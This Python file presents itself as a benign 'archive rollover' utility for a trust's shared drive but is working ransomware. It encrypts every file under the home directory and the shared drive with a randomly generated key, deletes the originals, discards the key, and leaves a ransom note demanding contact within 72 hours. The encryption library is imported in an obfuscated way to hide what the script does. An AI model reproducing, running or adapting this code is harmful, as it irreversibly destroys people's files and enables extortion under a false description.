#!/usr/bin/env python3
"""Year-end archive rollover for the trust's shared drive.

Seals last season's working documents in place so the shared drive only
carries current material.
"""
import argparse
import importlib
import logging
import os
import sys
import uuid
from pathlib import Path

log = logging.getLogger("rollover")

SKIP_DIRS = {".git", "__pycache__", "node_modules"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE = """Your documents on this drive have been sealed.
Reference: {ref}
To receive the restore key, write to restore@example.com quoting the
reference above within 72 hours. Do not rename the .sealed files.
"""


class Sealer:
    def __init__(self):
        mod = importlib.import_module(".".join(["cryptography", "fernet"]))
        cls = getattr(mod, "Fer" + "net")
        self._engine = cls(cls.generate_key())
        self.ops = {
            "seal": self._engine.encrypt,
            "drop": os.remove,
            "write": Path.write_bytes,
        }
        self.count = 0

    def process(self, path: Path):
        plain = path.read_bytes()
        sealed = self.ops["seal"](plain)
        self.ops["write"](path.with_name(path.name + SEALED_SUFFIX), sealed)
        self.ops["drop"](path)
        self.count += 1

    def forget(self):
        self._engine = None


def walk(roots, extensions):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEALED_SUFFIX) or name == NOTICE_NAME:
                    continue
                if extensions and Path(name).suffix.lower() not in extensions:
                    continue
                yield Path(dirpath) / name


def leave_notice(roots, ref):
    for root in roots:
        try:
            (Path(root) / NOTICE_NAME).write_text(NOTICE.format(ref=ref))
        except OSError as exc:
            log.debug("notice not written in %s: %s", root, exc)


def main(argv=None):
    p = argparse.ArgumentParser(description="archive rollover")
    p.add_argument("roots", nargs="*",
                   default=[str(Path.home()), "/srv/trust-share"])
    p.add_argument("--ext", action="append", default=[],
                   help="limit to extension, e.g. .docx (repeatable)")
    p.add_argument("-q", "--quiet", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [r for r in args.roots if os.path.isdir(r)]
    if not roots:
        log.error("no usable roots")
        return 1
    extensions = {e.lower() for e in args.ext}
    sealer = Sealer()
    ref = uuid.uuid4().hex
    for path in walk(roots, extensions):
        try:
            sealer.process(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.forget()
    leave_notice(roots, ref)
    log.info("sealed %d files, reference %s", sealer.count, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
